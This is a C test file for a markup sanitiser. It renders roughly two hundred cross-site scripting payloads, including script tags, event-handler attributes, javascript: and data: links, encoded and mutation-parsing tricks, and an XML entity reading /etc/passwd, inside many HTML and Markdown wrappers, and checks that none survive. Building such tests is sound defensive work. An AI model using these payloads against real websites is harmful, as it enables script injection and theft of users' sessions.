/*
 * Attempts to get script, style or foreign requests through. Each payload is
 * tried bare, inside of every wrapper, as HTML and as Markdown, in posts and
 * in comments. The judge shares nothing with the sanitiser: it reads the
 * output's tags by itself and knows its own few names.
 */
#include "markup/markup.h"

#include <string.h>

#include "base/buf.h"

#include "judge.h"
#include "rendered.h"

/* Something that runs, loads or submits, if it comes through. */
static const char *const payloads[] = {
	"<script>alert(1)</script>",
	"<SCRIPT SRC=//x.org/x.js></SCRIPT>",
	"<script/src=data:,alert(1)>",
	"<scr<script>ipt>alert(1)</scr</script>ipt>",
	"<script\x0C>alert(1)</script>",
	"<script>alert(1)",
	"<<script>alert(1)//<</script>",
	"<script x>alert(1)</script x>",
	"<script>/*</script><img src=x onerror=alert(1)>*/</script>",
	"<img src=x onerror=alert(1)>",
	"<img src=x onerror=alert(1)//",
	"<img/src=x/onerror=alert(1)>",
	"<img src='x'onerror='alert(1)'>",
	"<img src=x\tonerror=alert(1)>",
	"<img src=x\nonerror\n=\nalert(1)>",
	"<img src=\"x`<script>alert(1)</script>\"` `>",
	"<img src=x on error=alert(1)>",
	"<img src=x ONERROR=alert(1)>",
	"<img src=x o\x0Enerror=alert(1)>",
	"<img src=javascript:alert(1)>",
	"<img srcset=//x.org/1.png>",
	"<img src=//x.org/pixel.gif>",
	"<img src=https:x.org/pixel.gif>",
	"<img src=\\\\x.org\\pixel.gif>",
	"<img src=/\\x.org/pixel.gif>",
	"<img src=/f/\\..\\..\\x>",
	"<img src=/f//x.org/x.gif>",
	"<img src=/f/?//x.org>",
	"<img lowsrc=//x.org/x.gif>",
	"<img src=/f/a.svg#<svg/onload=alert(1)>>",
	"<image src=x onerror=alert(1)>",
	"<svg onload=alert(1)>",
	"<svg><script>alert(1)</script></svg>",
	"<svg><script href=data:,alert(1) />",
	"<svg><a xlink:href=javascript:alert(1)><text>a</text></a></svg>",
	"<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
	"<svg><set attributeName=onmouseover to=alert(1)>",
	"<svg><use href=data:image/svg+xml,x#x />",
	"<svg><foreignObject><iframe src=javascript:alert(1)>",
	"<svg><style><img src=x onerror=alert(1)></style></svg>",
	"<svg><title><img src=x onerror=alert(1)></title></svg>",
	"<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
	"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
	"<math><mi><style><!--</style><img title=\"--><img src=x "
	"onerror=alert(1)>\">",
	"<math href=javascript:alert(1)>a</math>",
	"<math><annotation-xml encoding=text/html><script>alert(1)</script>",
	"<form><math><mtext></form><form><mglyph><style></math><img src "
	"onerror=alert(1)>",
	"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
	"<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\">",
	"<noframes><img title=\"</noframes><img src=x onerror=alert(1)>\">",
	"<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
	"<title><img title=\"</title><img src=x onerror=alert(1)>\"></title>",
	"<xmp><img title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
	"<iframe><img title=\"</iframe><img src=x onerror=alert(1)>\">",
	"<style><img title=\"</style><img src=x onerror=alert(1)>\"></style>",
	"<plaintext><script>alert(1)</script>",
	"<listing>&lt;script&gt;alert(1)&lt;/script&gt;</listing>",
	"<template><script>alert(1)</script></template>",
	"<select><template><img src=x onerror=alert(1)></template></select>",
	"<select><style></select><img src=x onerror=alert(1)></style>",
	"<frameset onload=alert(1)><frame src=javascript:alert(1)>",
	"<iframe src=javascript:alert(1)></iframe>",
	"<iframe srcdoc='<script>alert(1)</script>'>",
	"<object data=javascript:alert(1)></object>",
	"<object><param name=src value=javascript:alert(1)></object>",
	"<embed src=javascript:alert(1)>",
	"<applet code=x></applet>",
	"<video><source onerror=alert(1)></video>",
	"<video poster=javascript:alert(1)></video>",
	"<audio src=x onerror=alert(1)></audio>",
	"<input autofocus onfocus=alert(1)>",
	"<input type=image src=x onerror=alert(1)>",
	"<button formaction=javascript:alert(1)>a</button>",
	"<form action=javascript:alert(1)><input type=submit></form>",
	"<form id=x></form><button form=x formaction=//x.org>a</button>",
	"<isindex action=javascript:alert(1) type=image>",
	"<keygen autofocus onfocus=alert(1)>",
	"<details open ontoggle=alert(1)>a</details>",
	"<marquee onstart=alert(1)>a</marquee>",
	"<body onload=alert(1)>",
	"<html onclick=alert(1)>a</html>",
	"<base href=//x.org/>",
	"<base href=javascript:/>",
	"<link rel=stylesheet href=//x.org/x.css>",
	"<link rel=import href=data:text/html,x>",
	"<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
	"<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
	"<style>@import '//x.org/x.css';</style>",
	"<style>body{background:url(javascript:alert(1))}</style>",
	"<p style='background:url(//x.org/x.gif)'>a</p>",
	"<p style=\"behavior:url(#default#time2)\" onbegin=alert(1)>a</p>",
	"<p style=position:fixed;top:0>a</p>",
	"<table background=javascript:alert(1)><tr><td>a</table>",
	"<td background=//x.org/x.gif>a",
	"<div onmouseover=alert(1)>a</div>",
	"<b onmouseover=alert(1)//",
	"<b/onmouseover=alert(1)>a",
	"<b\"onmouseover=alert(1)>a",
	"<b =onmouseover=alert(1)>a",
	"<b <onmouseover=alert(1)>a",
	"<b title='\"onmouseover=alert(1)//'>a",
	"<b title=\"&quot;onmouseover=alert(1)//\">a",
	"<b title='&#x22;&#62;&#60;script&#62;alert(1)&#60;/script&#62;'>a",
	"<b title=`><script>alert(1)</script>`>a",
	"<b id=\"x\" id='\"><script>alert(1)</script>'>a",
	"<b id=location name=cookie>a</b>",
	"<a id=document><a id=document name=cookie>a",
	"<b class='x\" onclick=\"alert(1)'>a",
	"<code class='language-x\" onclick=\"alert(1)'>a</code>",
	"<a target=_blank rel=opener href=//x.org>a</a>",
	"<a ping=//x.org href=/x>a</a>",
	"<a href=/x download=x.exe>a</a>",
	"<map name=x><area href=javascript:alert(1)></map>",
	"<!--><script>alert(1)</script>-->",
	"<!-- --!><script>alert(1)</script>",
	"<!-- <!-- --><script>alert(1)</script> -->",
	"<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
	"<!-----><script>alert(1)</script>",
	"<!><script>alert(1)</script>",
	"<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
	"<!DOCTYPE x SYSTEM 'http://x.org/x.dtd'>a",
	"<?xml-stylesheet href=javascript:alert(1)?>",
	"<?php echo '<script>alert(1)</script>' ?>",
	"<![CDATA[<script>alert(1)</script>]]>",
	"<![CDATA[><script>alert(1)</script>]]>",
	"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
	"<xml><i><b>&lt;img src=1 onerror=alert(1)&gt;</b></i></xml>",
	"<a:b onclick=alert(1)>a</a:b>",
	"<x onclick=alert(1) tabindex=1 autofocus onfocus=alert(1)>a</x>",
	"<custom-tag is=x onclick=alert(1)>a</custom-tag>",
	"</ onclick=alert(1)>",
	"</script><script>alert(1)</script>",
	"</div></article></main></body></html><script>alert(1)</script>",
	"%3Cscript%3Ealert(1)%3C/script%3E",
	"&lt;script&gt;alert(1)&lt;/script&gt;",
	"&#60;script&#62;alert(1)&#60;/script&#62;",
	"&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
	"&LT;script&GT;alert(1)&LT;/script&GT;",
	"&amp;lt;script&amp;gt;alert(1)",
	"\xEF\xBC\x9Cscript\xEF\xBC\x9E"
	"alert(1)\xEF\xBC\x9C/script",
	"\xC2\xBCscript\xC2\xBE"
	"alert(1)\xC2\xBC/script\xC2\xBE",
	"<\xEF\xBB\xBFscript>alert(1)</script>",
	"<s\xC5\xBF"
	"cript>alert(1)</script>",
	"<\xC4\xB1mg src=x onerror=alert(1)>",
	"\x1B(J<script>alert(1)</script>",
	/* Markdown's own ways. */
	"[a](javascript:alert(1))",
	"[a](<javascript:alert(1)>)",
	"[a](java&#115;cript:alert(1))",
	"[a](JaVaScRiPt&colon;alert(1))",
	"[a](data:text/html;base64,PHNjcmlwdD4=)",
	"[a](vbscript:x)",
	"[a](x \"\\\" onclick=alert(1)\")",
	"[a](/x '\" onclick=\"alert(1)')",
	"[a]: javascript:alert(1)\n\n[a]",
	"[a]: <javascript:alert(1)> '\"><script>'\n\n[a][]",
	"![a](javascript:alert(1))",
	"![a\" onerror=\"alert(1)](/f/x)",
	"![a](http://x.org/x.png)",
	"<javascript:alert(1)>",
	"<javascript://x.org/%0aalert(1)>",
	"[<img src=x onerror=alert(1)>](/x)",
	"`<script>alert(1)</script>`",
	"```\" onclick=\"alert(1)\n<script>alert(1)</script>\n```",
	"```<script>\nx\n```",
	"    <script>alert(1)</script>",
	"|<script>alert(1)</script>|\n|-|\n|<img src=x onerror=alert(1)>|",
	"|a\" onclick=\"alert(1)|\n|:-:|",
	"<a href=\"/x\" title=\"\n\n\"><script>alert(1)</script>",
	"http://x.org/\"onclick=\"alert(1)",
	"http://x.org/'><script>alert(1)</script>",
	"http://x.org/<script>alert(1)</script>",
	"www.x.org/\"><img src=x onerror=alert(1)>",
	"*<script>*alert(1)</script>",
	"<script\n\n>alert(1)</script\n\n>",
	"\xEF\xB7\x90 <script>alert(1)</script>",
};

/* Schemes that run or load, and their disguises; each becomes a link. */
static const char *const schemes[] = {
	"javascript:alert(1)",
	"JAVASCRIPT:alert(1)",
	" javascript:alert(1)",
	"\x01javascript:alert(1)",
	"\x1Fjavascript:alert(1)",
	"java\tscript:alert(1)",
	"java\nscript:alert(1)",
	"java\rscript:alert(1)",
	"java&Tab;script:alert(1)",
	"java&NewLine;script:alert(1)",
	"javascript&colon;alert(1)",
	"javascript&#58;alert(1)",
	"javascript&#x3A;alert(1)",
	"javascript&#0000058alert(1)",
	"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)",
	"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)",
	"&#1;javascript:alert(1)",
	"&#32;javascript:alert(1)",
	"\xC2\xA0javascript:alert(1)",
	"\xE2\x80\xA8javascript:alert(1)",
	"\xEF\xBB\xBFjavascript:alert(1)",
	"javascript\xEF\xBC\x9A"
	"alert(1)",
	"java\xC2\xADscript:alert(1)",
	"java&#0;script:alert(1)",
	"javascript:/*--></title></style></textarea></script></xmp>"
	"<svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
	"javascript://x.org/%0Aalert(1)",
	"javascript:\"<script>alert(1)</script>\"",
	"livescript:x",
	"vbscript:msgbox(1)",
	"data:text/html,<script>alert(1)</script>",
	"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
	"data:image/svg+xml,<svg onload=alert(1)>",
	"data:,x",
	"blob:https://x.org/x",
	"filesystem:https://x.org/x",
	"file:///etc/passwd",
	"feed:javascript:alert(1)",
	"feed:data:text/html,x",
	"view-source:javascript:alert(1)",
	"jar:javascript:alert(1)",
	"mhtml:http://x.org/x",
	"about:blank",
	"chrome://settings",
	"intent://x#Intent;scheme=x;end",
	"ms-word:ofe|u|http://x.org/x.docx",
	"tel:191",
	"ws://x.org",
	"ftp://x.org/x",
	"x-javascript:alert(1)",
	"http\xEF\xBC\x9A//x.org",
	":javascript:alert(1)",
	"//javascript:alert(1)",
	"/javascript:alert(1)",
	"?javascript:alert(1)",
	"#javascript:alert(1)",
	"./javascript:alert(1)",
	"http:javascript:alert(1)",
	"https:/javascript:alert(1)",
};

static const char *const link_forms[] = {
	"<a href=\"%s\">a</a>",
	"<a href='%s'>a</a>",
	"<a href=%s>a</a>",
	"<a HREF = \"%s\" >a</a>",
	"<img src=\"%s\">",
	"<a href=/x><img src=\"%s\" alt=a></a>",
	"[a](%s)",
	"[a](<%s>)",
	"![a](%s)",
	"<%s>",
	"[a]\n\n[a]: %s",
};

/* Around a payload: places where parsers change their minds. */
static const char *const wrappers[] = {
	"%s",
	"<p title=\"%s\">a</p>",
	"<p title='%s'>a</p>",
	"<p %s>a</p>",
	"<table><tr><td>%s</td></tr></table>",
	"<table>%s</table>",
	"<ul><li>%s</ul>",
	"<pre>%s</pre>",
	"<svg>%s</svg>",
	"<math><mi>%s</mi></math>",
	"<noscript>%s</noscript>",
	"<textarea>%s</textarea>",
	"<style>%s</style>",
	"<select>%s</select>",
	"<!-- %s -->",
	"<!-- a %s",
	"<![CDATA[%s]]>",
	"<a href=/x>%s</a>",
	"<b><i><u>%s",
	"</p></div>%s",
	"> - %s",
	"[%s](/x)",
	"# %s",
	"|%s|\n|-|",
	"\t%s",
	"`` %s ``",
	"http://x.org/%s",
	"\\%s",
};

static void
judge_knows(void)
{
	static const char *const bad[] = { "<script>", "<p onclick=\"x\">",
		"<p style=\"x\">", "<a href=\"javascript:x\">", "<p title='x'>",
		"<p title=\"x\"onclick=\"x\">", "a>", "<p", "<p title=\"<\">",
		"<img src=\"/x\">", "<p id=\"x\">", "<h1>", "</script>",
		"<a href=\"//x\">", "<P>" };

	for (size_t i = 0; i < COUNT(bad); i++)
		ok(!is_harmless(str_from(bad[i])), "the judge sees %s", bad[i]);
	ok(is_harmless(STR("<p title=\"x\">a</p>\n<br>")), "and is fair");
}

/* ---- the trial ---- */

struct tally {
	int tried, refused, bad;
};

static void
try_one(struct str text, struct tally *t)
{
	for (int i = 0; i < 4; i++) {
		struct arena *a = arena_new();
		const struct markup_source source = {
			.kind = i & 1 ? MARKUP_HTML : MARKUP_MARKDOWN,
			.text = text,
			.comment = (i & 2) != 0,
		};
		const struct markup m = markup_render(a, &source);

		t->tried++;
		t->refused += m.fault != MARKUP_OK;
		if (m.fault == MARKUP_OK &&
		    (!is_harmless(m.html.text) ||
			!is_settled(a, m, source.comment))) {
			t->bad++;
			note("kind %d: " STR_FMT "\n# became " STR_FMT, i,
			    STR_ARG(text), STR_ARG(m.html.text));
		}
		arena_release(a);
	}
}

/* Every `inner` in this `outer`, at its %s. */
static void
try_all(const char *outer, const char *const *inner, size_t n)
{
	struct tally t = { 0 };
	const char *hole = strstr(outer, "%s");

	for (size_t i = 0; i < n; i++) {
		struct buf b = { 0 };

		buf_bytes(&b, outer, (size_t)(hole - outer));
		buf_str(&b, str_from(inner[i]));
		buf_str(&b, str_from(hole + 2));
		try_one(buf_view(&b), &t);
		buf_release(&b);
	}
	is_int(t.bad, 0, "%d attacks on %s", t.tried, outer);
	is_int(t.refused, 0, "none was too much");
}

int
main(void)
{
	markup_init();
	judge_knows();
	for (size_t i = 0; i < COUNT(wrappers); i++)
		try_all(wrappers[i], payloads, COUNT(payloads));
	for (size_t i = 0; i < COUNT(link_forms); i++)
		try_all(link_forms[i], schemes, COUNT(schemes));
	return done_testing();
}
